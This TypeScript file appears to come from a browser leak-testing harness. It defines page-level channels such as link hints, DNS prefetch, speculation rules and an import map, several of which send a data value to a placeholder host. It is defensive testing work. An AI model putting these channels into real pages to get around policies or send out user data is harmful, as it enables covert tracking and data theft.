import { element, hint, markup, page, withAttributes, type Channel } from './channel.ts';

/** Link hints, speculation rules and import maps. */
export const hintChannels: readonly Channel[] = [
  page('link stylesheet', hint('stylesheet', '', 'link.css')),
  page('link icon', hint('icon', '', 'icon.png')),
  page('link preload fetch', hint('preload', `as:'fetch',crossorigin:''`)),
  page('link preload image', hint('preload', `as:'image'`)),
  page('link prefetch', hint('prefetch')),
  page('link preconnect', hint('preconnect')),
  page('link modulepreload', hint('modulepreload', '', 'import.js')),
  page('link manifest', hint('manifest', '', 'm.json')),
  page('link compression-dictionary', hint('compression-dictionary', '', 'dict')),
  page('link dns-prefetch (DNS)', withAttributes('link', `rel:'dns-prefetch',href:'//'+U.dns`, 'head'), { oracle: 'dns' }),
  page('link preconnect name (DNS)', withAttributes('link', `rel:'preconnect',href:'http://'+U.dns`, 'head'), { oracle: 'dns' }),
  page('anchor in page (DNS prefetch)', markup('`<a href="http://${U.dns}/">x</a>`'), { oracle: 'dns' }),
  page(
    'speculation rules prefetch',
    element('script', `type:'speculationrules',textContent:JSON.stringify({prefetch:[{source:'list',urls:[U.h+'/spec-prefetch.html?'+U.d]}]})`),
  ),
  page(
    'speculation rules prerender',
    element('script', `type:'speculationrules',textContent:JSON.stringify({prerender:[{source:'list',urls:[U.h+'/spec-prerender.html?'+U.d]}]})`),
  ),
  page(
    'import map',
    element('script', `type:'importmap',textContent:JSON.stringify({imports:{evil:U.h+'/import-map.js?'+U.d}})`) + `await import('evil')`,
  ),
];
